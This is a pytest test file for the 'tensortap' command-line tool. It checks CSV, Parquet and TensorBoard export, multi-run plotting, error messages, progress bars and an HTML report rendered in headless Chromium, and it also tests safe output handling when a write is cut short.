"""``tensortap export``, ``export tensorboard``, ``plot`` with several runs and ``report`` (in headless Chromium)."""

from __future__ import annotations

import fcntl
import json
import os
import pty
import re
import shutil
import struct
import subprocess
import sys
import termios
from pathlib import Path

import numpy as np
import pytest

pd = pytest.importorskip("pandas")

from helpers.cli import cli, strict_json  # noqa: E402

import tensortap  # noqa: E402
from tensortap import SaveConfig  # noqa: E402
from tensortap.capture import ShardPolicy, Writer  # noqa: E402
from tensortap.cli import main  # noqa: E402
from tensortap.trial.export import _tfrecords, export_tensorboard  # noqa: E402

from .conftest import TRAIN_STEPS, Run  # noqa: E402

pytestmark = pytest.mark.torch


def test_export_csv_has_a_row_per_tensor_and_step(run: Run, tmp_path: Path) -> None:
    out = tmp_path / "all.csv"
    assert main(["export", str(run.path), "--reduction", "mean", "--reduction", "l2", "-o", str(out)]) == 0
    df = pd.read_csv(out)
    trial = run.trial()
    raw = [n for n in trial.tensor_names() if not n.startswith("gradients/")]
    for name in raw:  # raw tensors: both reductions at every step, computed
        rows = df[df.name == name]
        assert len(rows) == 2 * len(trial.tensor(name).steps()), name
        assert set(rows.reduction) == {"mean", "l2"}
    for name in trial.tensor_names(regex="^gradients/"):  # only l2 was saved
        rows = df[df.name == name]
        assert list(rows.reduction.unique()) == ["l2"] and len(rows) == TRAIN_STEPS
    w = df[(df.name == "0.weight") & (df["mode"] == "TRAIN") & (df.reduction == "mean")].sort_values("mode_step")
    np.testing.assert_allclose(w.value, [s["0.weight"].astype(np.float64).mean() for s in run.weights], rtol=1e-6)


def test_export_parquet_and_bad_suffix(run: Run, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("pyarrow")
    out = tmp_path / "t.parquet"
    assert main(["export", str(run.path), "--collection", "losses", "-o", str(out)]) == 0
    df = pd.read_parquet(out)
    train = df[df["mode"] == "TRAIN"].sort_values("mode_step")
    np.testing.assert_allclose(train.value, run.train_loss, rtol=1e-6)
    assert main(["export", str(run.path), "-o", str(tmp_path / "t.xlsx")]) == 2
    assert "must end in .csv or .parquet" in capsys.readouterr().err
    assert main(["export", str(run.path), "--reduction", "median"]) == 2
    assert main(["export", str(run.path), "a", "b", "c"]) == 2


def test_export_tensorboard_reads_back_with_tensorboards_loader(run: Run, tmp_path: Path) -> None:
    pytest.importorskip("tensorboardX")
    ea_mod = pytest.importorskip("tensorboard.backend.event_processing.event_accumulator")
    logdir = tmp_path / "tb"
    assert main(["export", "tensorboard", str(run.path), str(logdir)]) == 0
    trial = run.trial()
    loss = trial.tensor_names(regex="^losses/")[0]
    times = trial.wall_times()
    train = ea_mod.EventAccumulator(str(logdir / "train"), size_guidance={"scalars": 0, "histograms": 0})
    train.Reload()
    events = train.Scalars(loss)
    assert [e.step for e in events] == [trial.global_step(s, "train") for s in range(TRAIN_STEPS)]
    np.testing.assert_allclose([e.value for e in events], run.train_loss, rtol=1e-6)
    np.testing.assert_allclose([e.wall_time for e in events], [times[e.step] for e in events])
    l2 = train.Scalars("gradients/0.weight/l2")
    np.testing.assert_allclose([e.value for e in l2], [np.linalg.norm(g["0.weight"]) for g in run.grads], rtol=1e-5)
    hists = train.Histograms("gradients/0.weight")
    assert len(hists) == TRAIN_STEPS
    saved = trial.tensor("gradients/0.weight").histogram_value(2, "train")
    h = hists[2].histogram_value
    assert hists[2].step == trial.global_step(2, "train")
    np.testing.assert_allclose(h.bucket_limit, saved.edges[1:])
    np.testing.assert_array_equal(h.bucket, saved.counts)
    assert "0.weight" in train.Tags()["histograms"]
    evals = ea_mod.EventAccumulator(str(logdir / "eval"))
    evals.Reload()
    np.testing.assert_allclose([e.value for e in evals.Scalars(loss)], run.eval_loss, rtol=1e-6)


def test_event_records_are_framed_byte_for_byte_as_tensorboardx_frames_them(tmp_path: Path) -> None:
    """The export checksums the records of an event file together, those of one length at once: the file is
    tensorboardX's own (RecordWriter's) for records of one length and of many, few or many of a length,
    empty ones included."""
    record_writer = pytest.importorskip("tensorboardX.record_writer")
    rng = np.random.default_rng(0)
    records = [rng.bytes(n) for n in (0, 1, 7, 8, 8, 8, 300, 1, 4097, 0)] + [rng.bytes(9) for _ in range(40)]
    writer = record_writer.RecordWriter(str(tmp_path / "events"))
    for record in records:
        writer.write(record)
    writer.close()
    assert _tfrecords(records) == (tmp_path / "events").read_bytes()


def test_export_tensorboard_writes_a_reduction_among_the_defaults_once(run: Run, tmp_path: Path) -> None:
    """``--reduction l2`` (a reduction written by default) wrote every ``<name>/l2`` twice a step: TensorBoard drew
    each such line back from the last step to the first, and ``scalars`` counted every value twice."""
    pytest.importorskip("tensorboardX")
    ea_mod = pytest.importorskip("tensorboard.backend.event_processing.event_accumulator")
    counts = [
        export_tensorboard(run.trial(), tmp_path / name, reductions=extra, show_progress=False)["scalars"]
        for name, extra in (("plain", None), ("l2", ["l2"]), ("abs_max", ["abs_max"]))
    ]
    train = ea_mod.EventAccumulator(str(tmp_path / "l2" / "train"), size_guidance={"scalars": 0})
    train.Reload()
    assert len(train.Scalars("gradients/0.weight/l2")) == TRAIN_STEPS
    for tag in train.Tags()["scalars"]:
        steps = [e.step for e in train.Scalars(tag)]
        assert steps == sorted(set(steps)), tag
    assert counts[0] < counts[1] < counts[2]  # l2 added for the scalars only; abs_max for every tensor


def test_plot_two_runs(run: Run, run_b: Run, tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    out = tmp_path / "cmp.png"
    assert main(["plot", str(run.path), str(run_b.path), "--regex", "^losses/", "--mode", "train", "-o", str(out)]) == 0
    assert out.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert main(["plot", str(run.path), str(run_b.path), "--regex", "^nothing"]) == 2
    # no image suffix: matplotlib wrote plain.png, and the command said it wrote "plain", which did not exist
    assert main(["plot", str(run.path), "--regex", "^losses/", "-o", str(tmp_path / "plain")]) == 2
    assert not (tmp_path / "plain").exists() and not (tmp_path / "plain.png").exists()


def test_show_of_a_mode_the_tensor_has_no_step_in_is_an_error(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    """``show NAME --mode M`` of a tensor never saved in mode M (gradients at eval steps, where no backward
    runs; a validation loss with ``--mode train``) printed nothing and exited 0, an empty answer given as
    a success; ``plot`` refused the same request. Now it exits 2 and names the modes the tensor has."""
    trial = run.trial()
    (loss,) = trial.tensor_names(regex="^losses/")
    assert main(["show", str(run.path), loss, "--mode", "eval", "--json"]) == 0
    shown = strict_json(capsys.readouterr().out)["steps"]
    np.testing.assert_allclose([e["value"] for e in shown], run.eval_loss, rtol=1e-6)
    assert main(["show", str(run.path), "gradients/0.weight", "--mode", "eval"]) == 2
    out, err = capsys.readouterr()
    assert out == ""
    assert err == (
        f"tensortap show: 'gradients/0.weight' has no eval step; it was saved at train steps 0-{TRAIN_STEPS - 1} "
        f"({TRAIN_STEPS} steps)\n"
    )
    assert main(["show", str(run.path), "gradients/0.weight", "--mode", "predict", "--json"]) == 2
    error = strict_json(capsys.readouterr().out)["error"]
    assert error["kind"] == "input" and error["message"].startswith("'gradients/0.weight' has no predict step;")


def test_show_json_of_a_complex_tensor(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A module's complex output (``torch.fft.rfft``) is captured as complex64, but ``show --full --json``
    of it exited 2 with "unexpected error: TypeError('Object of type complex is not JSON serializable')".
    Each element is now ``{"real": ..., "imag": ...}``, equal to what PyTorch computed."""
    import torch

    import tensortap.torch as ttt

    class Spectrum(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            self.last = torch.fft.rfft(x)
            return self.last

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 4), Spectrum())
    opt = torch.optim.SGD(model.parameters(), lr=0.1)
    hook = ttt.capture(model, tmp_path, optimizer=opt, include_collections=["outputs"])
    opt.zero_grad()
    model(torch.randn(2, 4)).abs().mean().backward()
    opt.step()
    hook.close()
    expected = model[1].last.detach().numpy()
    assert main(["show", str(tmp_path), "outputs/1", "--step", "0", "--full", "--json"]) == 0
    (entry,) = strict_json(capsys.readouterr().out)["steps"]
    assert (entry["dtype"], entry["shape"]) == ("complex64", [2, 3])
    got = np.array([[complex(z["real"], z["imag"]) for z in row] for row in entry["value"]])
    np.testing.assert_array_equal(got, expected)


def test_plot_of_a_name_no_run_has_is_an_error(run: Run, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``plot RUN losses/CrossEntropyLoss losses/CrossEntropyLos`` drew the first, dropped the misspelt one
    silently and said "wrote (2 tensor(s))" (``--json``: both under ``tensors``); ``trial.plot([...])`` too.
    A name that none of the runs saved is now an error with the closest names, as in ``show``."""
    pytest.importorskip("matplotlib")
    trial = run.trial()
    (loss,) = trial.tensor_names(regex="^losses/")
    out = tmp_path / "loss.png"
    assert main(["plot", str(run.path), loss, "--json", "-o", str(out)]) == 0
    assert strict_json(capsys.readouterr().out)["tensors"] == [loss]
    ax = trial.plot([loss], mode="eval", x="step")
    np.testing.assert_allclose(ax.get_lines()[0].get_ydata(), run.eval_loss, rtol=1e-6)
    assert main(["plot", str(run.path), loss, loss[:-1], "-o", str(tmp_path / "typo.png")]) == 2
    out_text, err = capsys.readouterr()
    assert out_text == "" and not (tmp_path / "typo.png").exists()
    assert err.startswith(f"tensortap plot: no tensor named {loss[:-1]!r} in ") and f"did you mean {loss!r}" in err
    with pytest.raises(tensortap.TensorUnavailable, match=f"no tensor named {loss[:-1]!r}"):
        trial.plot([loss, loss[:-1]])


def test_an_unknown_reduction_is_an_unknown_name_everywhere(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    """``show --reduction abs_mea`` said ``no reduction 'abs_mea'; did you mean 'abs_mean' ...`` (kind
    ``unknown_name``, as documented), but ``export``, ``export tensorboard``, ``plot``, ``to_pandas`` and
    ``reduction_values`` raised a plain ValueError: no suggestion, a list of valid names without the
    ``abs_`` ones (so ``abs_mea`` read as if ``abs_`` were not valid), ``--json`` kind ``input``."""
    assert main(["export", str(run.path), "--reduction", "abs_mea", "--json"]) == 2
    error = strict_json(capsys.readouterr().out)["error"]
    assert error["kind"] == "unknown_name"
    assert error["message"].startswith("no reduction 'abs_mea'; did you mean 'abs_mean'")
    assert "each also as abs_NAME" in error["message"]
    trial = run.trial()
    with pytest.raises(tensortap.UnknownName, match="did you mean 'abs_mean'"):
        trial.to_pandas(reductions=["abs_mea"])
    with pytest.raises(tensortap.UnknownName, match="did you mean 'mean'"):
        trial.tensor("0.weight").reduction_values("mea")
    assert main(["export", str(run.path), "--reduction", "abs_mean", "--json"]) == 0
    rows = [r for r in strict_json(capsys.readouterr().out)["rows"] if r["name"] == "0.weight" and r["mode"] == "TRAIN"]
    np.testing.assert_allclose(
        [r["value"] for r in sorted(rows, key=lambda r: r["mode_step"])],
        [np.abs(w["0.weight"].astype(np.float64)).mean() for w in run.weights],
        rtol=1e-6,
    )


def train_two_workers(path: Path) -> tuple[dict[int, list[float]], dict[int, list[np.ndarray]]]:
    """Two workers (ranks) of a PyTorch training into ``path``, worker_1 stopped after 2 of the 4 steps;
    the losses and weights (after each step) of each rank, as PyTorch computed them."""
    import torch

    import tensortap.torch as ttt

    losses: dict[int, list[float]] = {0: [], 1: []}
    weights: dict[int, list[np.ndarray]] = {0: [], 1: []}
    for rank, steps in ((0, 4), (1, 2)):
        torch.manual_seed(rank)
        model = torch.nn.Linear(3, 1)
        opt = torch.optim.SGD(model.parameters(), lr=0.1)
        loss_fn = torch.nn.MSELoss()
        hook = ttt.capture(model, path, optimizer=opt, loss=loss_fn, rank=rank, save_config=SaveConfig(1))
        x, y = torch.randn(8, 3), torch.randn(8, 1)
        for _ in range(steps):
            opt.zero_grad()
            loss = loss_fn(model(x), y)
            loss.backward()
            opt.step()
            losses[rank].append(loss.item())
            weights[rank].append(model.weight.detach().numpy().copy())
        hook.close()
    return losses, weights


def test_show_worker_prints_the_steps_that_worker_saved(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Two workers of a PyTorch training, one stopped after 2 of the 4 steps: ``show NAME --worker
    worker_1`` printed its steps 0 and 1, then exited 2 at step 2 ("worker 'worker_1' did not save it").
    It prints the steps that worker saved; a worker the trial does not have is an unknown name (hunt 52 F6)."""
    losses, _ = train_two_workers(tmp_path)
    for rank in (0, 1):
        assert main(["show", str(tmp_path), "losses/MSELoss", "--worker", f"worker_{rank}", "--json"]) == 0
        shown = strict_json(capsys.readouterr().out)["steps"]
        assert [e["step"] for e in shown] == list(range(len(losses[rank])))
        np.testing.assert_allclose([e["value"] for e in shown], losses[rank], rtol=1e-6)
    assert main(["show", str(tmp_path), "losses/MSELoss", "--worker", "worker_2"]) == 2
    assert capsys.readouterr().err.startswith(f"tensortap show: no worker 'worker_2' in {tmp_path}; did you mean")


def test_export_tensorboard_of_two_workers_writes_each_workers_values(tmp_path: Path) -> None:
    """``export tensorboard`` wrote one value per step, the first worker's: worker_1's losses and weights
    were left out silently (and at a step worker_0 lacked, another worker's value took its place in the
    same curve). A trial of several workers now has one run per mode and worker."""
    pytest.importorskip("tensorboardX")
    ea_mod = pytest.importorskip("tensorboard.backend.event_processing.event_accumulator")
    losses, weights = train_two_workers(tmp_path / "run")
    assert main(["export", "tensorboard", str(tmp_path / "run"), str(tmp_path / "tb")]) == 0
    for rank in (0, 1):
        events = ea_mod.EventAccumulator(
            str(tmp_path / "tb" / "train" / f"worker_{rank}"), size_guidance={"scalars": 0, "histograms": 0}
        )
        events.Reload()
        shown = events.Scalars("losses/MSELoss")
        assert [e.step for e in shown] == list(range(len(losses[rank])))
        np.testing.assert_allclose([e.value for e in shown], losses[rank], rtol=1e-6)
        mean = events.Scalars("weight/mean")  # a raw tensor: its saved reductions, else min max mean std l2
        np.testing.assert_allclose([e.value for e in mean], [w.mean() for w in weights[rank]], rtol=1e-5)
        assert [e.step for e in events.Histograms("weight")] == list(range(len(losses[rank])))


def test_export_tensorboard_names_each_tensor_with_non_finite_values_once(tmp_path: Path) -> None:
    """A diverging training: tensorboardX printed "NaN or Inf found in input tensor." once per value written,
    naming no tensor. The export now warns once per tensor, naming it and counting its non-finite values,
    and tensorboardX's own message is left out; the values are written as they are."""
    pytest.importorskip("tensorboardX")
    ea_mod = pytest.importorskip("tensorboard.backend.event_processing.event_accumulator")
    import torch
    from torch import nn

    import tensortap.torch as ttt

    torch.manual_seed(0)
    model = nn.Sequential(nn.Linear(4, 8), nn.ReLU(), nn.Linear(8, 1))
    opt = torch.optim.SGD(model.parameters(), lr=1e6)  # diverges: inf at step 2, NaN from step 3
    loss_fn = nn.MSELoss()
    hook = ttt.capture(
        model, tmp_path / "run", loss=loss_fn, save_config=SaveConfig(save_interval=1), include_collections=["losses"]
    )
    gen = torch.Generator().manual_seed(1)
    losses = []
    for _ in range(8):
        x, y = torch.randn(8, 4, generator=gen), torch.randn(8, 1, generator=gen)
        opt.zero_grad()
        loss = loss_fn(model(x), y)
        loss.backward()
        opt.step()
        losses.append(loss.item())
    hook.close()
    nonfinite = sum(not np.isfinite(v) for v in losses)
    assert 0 < nonfinite < len(losses)
    result = cli("export", "tensorboard", str(tmp_path / "run"), str(tmp_path / "tb"))
    assert result.returncode == 0, result.stderr
    assert "NaN or Inf found" not in result.stderr
    (name,) = tensortap.create_trial(tmp_path / "run").tensor_names(collection="losses")
    assert result.stderr == (
        f"tensortap: {name!r}: {nonfinite} of its {len(losses)} values written as TensorBoard scalars "
        "are NaN or infinite\n"
    )
    events = ea_mod.EventAccumulator(str(tmp_path / "tb" / "train"), size_guidance={"scalars": 0})
    events.Reload()
    np.testing.assert_array_equal([e.value for e in events.Scalars(name)], np.float32(losses))


def test_plot_says_why_a_tensor_drew_no_line(run: Run, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The gradients of the run saved only their l2 norm (and histograms): ``plot RUN gradients/0.weight``
    (the mean by default) said "none of 'gradients/0.weight' has values", though it has a value at every
    step; a validation loss with ``--mode train`` said the same. The message now says what is missing."""
    pytest.importorskip("matplotlib")
    out = str(tmp_path / "g.png")
    assert main(["plot", str(run.path), "gradients/0.weight", "-o", out]) == 2
    assert capsys.readouterr().err.endswith(
        "'gradients/0.weight' has no 'mean' and no raw tensor to compute it from (saved: l2)\n"
    )
    loss = run.trial().tensor_names(regex="^losses/")[0]
    assert main(["plot", str(run.path), loss, "--mode", "predict", "-o", out]) == 2
    assert capsys.readouterr().err.endswith(f"{loss!r} has no predict step\n")
    train_two_workers(tmp_path / "other")  # a run without that loss, given first
    assert main(["plot", str(tmp_path / "other"), str(run.path), loss, "--mode", "predict", "-o", out]) == 2
    assert capsys.readouterr().err.endswith(f"{loss!r} has no predict step\n")
    assert main(["plot", str(run.path), "gradients/0.weight", "--reduction", "l2", "--json", "-o", out]) == 0
    ax = run.trial().plot(["gradients/0.weight"], reduction="l2")
    norms = [np.linalg.norm(g["0.weight"]) for g in run.grads]
    np.testing.assert_allclose(ax.get_lines()[0].get_ydata(), norms, rtol=1e-5)


def test_export_says_which_tensors_lack_a_reduction_asked_for(
    run: Run, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The run's gradients saved only their l2 norm: ``export --reduction mean`` wrote the weights' means
    and no row at all for the gradients, without a word (exit 0). One warning names them now."""
    out = tmp_path / "means.csv"
    assert main(["export", str(run.path), "--reduction", "mean", "-o", str(out)]) == 0
    gradients = sorted(run.trial().tensor_names(collection="gradients"))
    assert capsys.readouterr().err == (
        f"tensortap: 'mean' left out for {len(gradients)} tensor(s) that saved neither it nor their raw values: "
        f"{', '.join(gradients)}\n"
    )
    df = pd.read_csv(out)
    assert not set(gradients) & set(df.name)
    w = df[(df.name == "0.weight") & (df["mode"] == "TRAIN")].sort_values("mode_step")
    np.testing.assert_allclose(w.value, [s["0.weight"].astype(np.float64).mean() for s in run.weights], rtol=1e-6)
    assert main(["export", str(run.path), "--reduction", "l2", "-o", str(out)]) == 0
    assert capsys.readouterr().err == ""  # every tensor has it: saved, or computed from the raw tensor


def test_export_plot_and_report_answer_json(run: Run, tmp_path: Path) -> None:
    """``export``, ``plot`` and ``report`` had no ``--json``: a script could not learn what they wrote
    (rows, tensors plotted), nor get an error object when they failed. Each prints one object now."""
    path, trial = str(run.path), run.trial()

    def answer(*args: str, code: int = 0) -> dict[str, object]:
        result = cli(*args, "--json")
        assert result.returncode == code and "Traceback" not in result.stderr, result.stderr
        return strict_json(result.stdout)

    table = answer("export", path, "--collection", "losses")
    rows = [r for r in table["rows"] if r["mode"] == "TRAIN"]
    assert table["path"] == path and table["row_count"] == len(table["rows"]) == len(
        trial.to_pandas(collection="losses")
    )
    assert set(rows[0]) == {"worker", "mode", "mode_step", "step", "name", "reduction", "value"}
    np.testing.assert_allclose(
        [r["value"] for r in sorted(rows, key=lambda r: r["mode_step"])], run.train_loss, rtol=1e-6
    )
    csv = tmp_path / "t.csv"
    assert answer("export", path, "-o", str(csv)) == {
        "path": path,
        "output": str(csv),
        "row_count": len(pd.read_csv(csv)),
    }
    image = tmp_path / "p.png"
    plotted = answer("plot", path, "--regex", "^losses/", "-o", str(image))
    assert plotted == {
        "runs": [path],
        "tensors": trial.tensor_names(regex="^losses/"),
        "output": str(image),
        "x": "global_step",  # train and eval losses: each where it was computed
    }
    page = tmp_path / "r.html"
    assert answer("report", path, "-o", str(page), "--rule", "exploding_tensor") == {
        "path": path,
        "output": str(page),
        "rules": ["exploding_tensor"],
    }
    assert image.stat().st_size > 0 and page.stat().st_size > 0
    for args in (["plot", path, "--regex", "^nothing"], ["export", path, "a", "b"]):
        error = answer(*args, code=2)["error"]
        assert (error["command"], error["kind"]) == (args[0], "usage"), error


# (command after PATH, label of its bar): long offline work shows a bar on a terminal
PROGRESS_COMMANDS = [
    (["export", "{path}", "-o", "{tmp}/x.csv"], "tensors"),
    (["rules", "{path}", "--rule", "LossNotDecreasing"], "steps"),
    (["check", "{path}"], "shards"),
]


def _progress_cmd(args: list[str], run: Run, tmp_path: Path) -> list[str]:
    return [sys.executable, "-m", "tensortap.cli", *(a.format(path=run.path, tmp=tmp_path) for a in args)]


@pytest.mark.parametrize(("args", "label"), PROGRESS_COMMANDS, ids=["export", "rules", "check"])
def test_no_progress_bar_when_not_a_terminal(run: Run, tmp_path: Path, args: list[str], label: str) -> None:
    result = subprocess.run(_progress_cmd(args, run, tmp_path), capture_output=True, text=True, env=_env())
    assert result.returncode in (0, 1), result.stderr
    assert label not in result.stderr and "%" not in result.stderr, result.stderr


@pytest.mark.parametrize(("args", "label"), PROGRESS_COMMANDS, ids=["export", "rules", "check"])
def test_progress_bar_on_a_terminal(run: Run, tmp_path: Path, args: list[str], label: str) -> None:
    pytest.importorskip("tqdm")
    if args[0] == "check":  # a bar of its shards: one shard shows none
        with Writer(tmp_path / "shards", shard_policy=ShardPolicy(max_steps=1)) as w:
            for _ in range(3):
                with w.stepping():
                    w.save("x", np.ones(3))
        run = Run(tmp_path / "shards")
    leader, follower = pty.openpty()
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 100, 0, 0))  # a new pty is 0 wide
    proc = subprocess.Popen(_progress_cmd(args, run, tmp_path), stdout=subprocess.DEVNULL, stderr=follower, env=_env())
    os.close(follower)
    chunks = []
    while True:
        try:
            data = os.read(leader, 4096)
        except OSError:
            break
        if not data:
            break
        chunks.append(data)
    assert proc.wait() in (0, 1)
    os.close(leader)
    text = b"".join(chunks).decode("utf-8", "replace")
    assert re.search(label + r": +\d+%", text), text


def _env() -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join([str(Path(tensortap.__file__).parent.parent), env.get("PYTHONPATH", "")])
    return env


def _chromium() -> str | None:
    for name in ("chromium", "chromium-browser", "google-chrome"):
        found = shutil.which(name)
        if found:
            return found
    return None


def test_report_renders_in_headless_chromium(run: Run, tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    out = tmp_path / "report.html"
    # the gradients were saved as l2 and histograms: vanishing_gradient, of the default rules, finds no abs_mean,
    # which the page says (hunt 33 M4); the others judged, and the report exits 0
    assert main(["report", str(run.path), "-o", str(out)]) == 0
    html = out.read_text(encoding="utf-8")
    assert "<td>vanishing_gradient</td><td><span class='note'>could not judge</span>" in html
    assert "http://" not in html and "https://" not in html  # self-contained
    for section in ("Summary", "Losses", "Gradient norms per layer", "Weight distributions", "Rules"):
        assert f"<h2>{section}" in html
    assert "loss_not_decreasing" in html and "vanishing_gradient" in html
    n_images = html.count("src='data:image/png;base64,")
    assert n_images >= 6
    browser = _chromium()
    if browser is None:
        if os.environ.get("CI"):
            pytest.fail("chromium is not installed (CI must install the Debian package `chromium`)")
        pytest.skip("chromium is not installed")
    shot = tmp_path / "shot.png"
    # the page reports what rendered into its title; --dump-dom prints the DOM after scripts ran
    probe = tmp_path / "probe.html"
    probe.write_text(
        html.replace(
            "</body>",
            "<script>window.addEventListener('load', () => { const imgs = [...document.images];"
            " document.body.setAttribute('data-rendered', imgs.filter(i => i.complete && i.naturalWidth > 0).length);"
            " document.body.setAttribute('data-images', imgs.length); });</script></body>",
        ),
        encoding="utf-8",
    )
    flags = [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-first-run",
        f"--user-data-dir={tmp_path / 'profile'}",
        "--window-size=1200,2000",
        "--enable-logging=stderr",
        "--v=0",
    ]
    shot_run = subprocess.run(
        [browser, *flags, f"--screenshot={shot}", out.as_uri()], capture_output=True, text=True, timeout=120
    )
    assert shot.exists(), shot_run.stderr[-2000:]
    console = [line for line in shot_run.stderr.splitlines() if "CONSOLE" in line or "Uncaught" in line]
    assert not console, console
    from matplotlib.image import imread

    pixels = imread(str(shot))
    assert pixels.shape[0] >= 1000 and pixels.shape[1] >= 1000
    assert float(pixels[..., :3].std()) > 0.05  # not a blank page
    assert (pixels[..., :3].reshape(-1, 3).std(axis=1) > 0.1).mean() > 0.01  # coloured plot pixels, not only text
    dom = subprocess.run([browser, *flags, "--dump-dom", probe.as_uri()], capture_output=True, text=True, timeout=120)
    match = re.search(r"data-rendered=\"(\d+)\" data-images=\"(\d+)\"", dom.stdout)
    assert match is not None, dom.stdout[-500:]
    assert int(match.group(1)) == int(match.group(2)) == n_images
    assert not [line for line in dom.stderr.splitlines() if "CONSOLE" in line or "Uncaught" in line]


SIZE_LIMIT = 16_384  # bytes a file may grow to under RLIMIT_FSIZE: each output of the trial below is larger


@pytest.mark.parametrize("target", ["t.csv", "t.parquet", "logdir", "r.html", "p.svg"])
def test_an_output_cut_short_leaves_nothing_that_reads_as_whole(tmp_path: Path, target: str) -> None:
    """hunt 41 F3: an export cut short (Ctrl-C, a full disk; here a write past the file size limit, which fails
    at the same point every run) left its truncated file at the path asked for: a CSV that pandas read back as
    a whole table, ending on a whole row, and event files TensorBoard showed as a complete run, which then made
    the export's rerun refuse the folder ("holds event files already"). Outputs are written under a hidden
    name and renamed at the end, or removed. hunt 57 A57-2: ``plot -o p.svg`` (or ``.pdf``; a ``.png`` on a
    Ctrl-C, Pillow removes it on an error) still wrote straight to its path, leaving a truncated image there.
    hunt 57 A57-3: the export to TensorBoard left the empty run folders (``logdir/train``) it had made."""
    resource = pytest.importorskip("resource")
    if target == "t.parquet":
        pytest.importorskip("pyarrow")
    if target == "logdir":
        pytest.importorskip("tensorboardX")
    rng = np.random.default_rng(0)
    with Writer(tmp_path / "run") as w:
        for _ in range(40):
            with w.stepping():
                for i in range(8):
                    w.save(f"weights/w{i}", rng.normal(size=200), ["weights"])
    out = tmp_path / "out"
    out.mkdir()
    run, where = str(tmp_path / "run"), str(out / target)
    args = {
        "t.csv": ["export", run, "-o", where],
        "t.parquet": ["export", run, "-o", where],
        "logdir": ["export", "tensorboard", run, where],
        "r.html": ["report", run, "--rule", "exploding_tensor", "-o", where],
        "p.svg": ["plot", run, "--regex", "weights", "-o", where],
    }[target]

    def limited() -> None:  # Python ignores SIGXFSZ: a write past the limit fails (EFBIG)
        resource.setrlimit(resource.RLIMIT_FSIZE, (SIZE_LIMIT, SIZE_LIMIT))

    result = subprocess.run(
        [sys.executable, "-m", "tensortap.cli", *args], preexec_fn=limited, capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 2 and "File too large" in result.stderr, result.stderr
    assert list(out.iterdir()) == []  # not the truncated output, its partial file or the run folders it made
    if target == "logdir":  # a LOGDIR that existed stays, without the run folders the export made in it
        Path(where).mkdir()
        subprocess.run([sys.executable, "-m", "tensortap.cli", *args], preexec_fn=limited, timeout=120)
        assert list(out.iterdir()) == [Path(where)] and list(Path(where).iterdir()) == []
    again = cli(*args)  # the rerun is not refused for what the first one left
    assert again.returncode == 0, again.stderr
    assert [p.name for p in out.rglob("*") if p.is_file() and p.name.startswith(".")] == []
    if target == "t.csv":
        assert len(pd.read_csv(where)) == len(tensortap.create_trial(run).to_pandas())


def test_an_export_updates_an_existing_output_through_its_link_keeping_its_mode(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """review 56 F3: since exports are written under a hidden name and renamed, an output that is a symbolic
    link (a shared results file linked into the folder) was replaced by a regular file, the file it named kept
    its old content; an existing file's mode became the umask's (0o664 -> 0o644); and an error named the hidden
    ``.tensortap-<random>.partial`` file instead of the output asked for. Now the link is followed, the mode
    kept, and the error names the output."""
    with Writer(tmp_path / "run") as w, w.stepping():
        w.save("a", np.float32(1.0), ["metrics"])
    run = str(tmp_path / "run")
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "real.csv").write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(shared / "real.csv")
    assert main(["export", run, "-o", str(link)]) == 0
    assert link.is_symlink()
    assert len(pd.read_csv(shared / "real.csv")) == 1
    kept = tmp_path / "mode.csv"
    kept.write_text("x")
    kept.chmod(0o664)
    assert main(["export", run, "-o", str(kept)]) == 0
    assert kept.stat().st_mode & 0o777 == 0o664
    assert len(pd.read_csv(kept)) == 1
    folder = tmp_path / "a-folder"
    folder.mkdir()
    capsys.readouterr()
    assert main(["export", run, "-o", str(folder)]) == 2
    err = capsys.readouterr().err
    assert f"'{folder}'" in err and ".partial" not in err, err
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root writes in any folder")
def test_an_export_to_a_writable_file_in_a_folder_it_cannot_write_writes_it_in_place(tmp_path: Path) -> None:
    """review 56 F3: an existing writable file in a folder the user cannot write (a shared results folder) was
    overwritten before exports were written under a hidden name; then making that name failed (EACCES), naming
    it. Now the file is written in place."""
    with Writer(tmp_path / "run") as w, w.stepping():
        w.save("a", np.float32(1.0), ["metrics"])
    shared = tmp_path / "shared"
    shared.mkdir()
    out = shared / "out.csv"
    out.write_text("x")
    shared.chmod(0o555)
    try:
        assert main(["export", str(tmp_path / "run"), "-o", str(out)]) == 0
    finally:
        shared.chmod(0o755)
    assert len(pd.read_csv(out)) == 1


OPENS_OF_HIDDEN_FILES = r"""
import json, re, sys
from tensortap.cli import main
opened = {}
hidden = re.compile(r"\.tensortap-[0-9a-f]+\.partial$")

def audit(event, args):  # every open of a hidden file: its mode, or os.open's flags
    if event == "open" and isinstance(args[0], str) and hidden.search(args[0]):
        opened.setdefault(args[0], []).append(args[1] or args[2])

sys.addaudithook(audit)
run, out = sys.argv[1:]
commands = [
    ["export", run, "-o", f"{out}/t.csv"],
    ["export", run, "-o", f"{out}/t.parquet"],
    ["export", "tensorboard", run, f"{out}/logdir"],
    ["report", run, "--rule", "exploding_tensor", "-o", f"{out}/r.html"],
    ["plot", run, "a", "-o", f"{out}/p.svg"],
]
for args in commands:
    assert main(args) == 0, args
print(json.dumps(list(opened.values())))
"""


